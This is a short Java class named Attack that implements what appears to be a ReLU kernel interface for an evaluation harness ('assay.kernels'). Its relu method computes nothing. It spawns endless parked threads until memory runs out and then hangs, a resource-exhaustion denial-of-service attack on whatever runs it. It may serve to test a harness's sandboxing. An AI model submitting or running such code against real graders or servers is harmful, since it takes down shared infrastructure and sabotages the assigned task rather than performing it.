import assay.kernels.Relu;
import assay.kernels.Tensor;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        while (true) {
            try {
                Thread thread = new Thread(() -> {
                    while (true) java.util.concurrent.locks.LockSupport.park();
                });
                thread.start();
            } catch (OutOfMemoryError e) {
                java.util.concurrent.locks.LockSupport.park();
            }
        }
    }
}
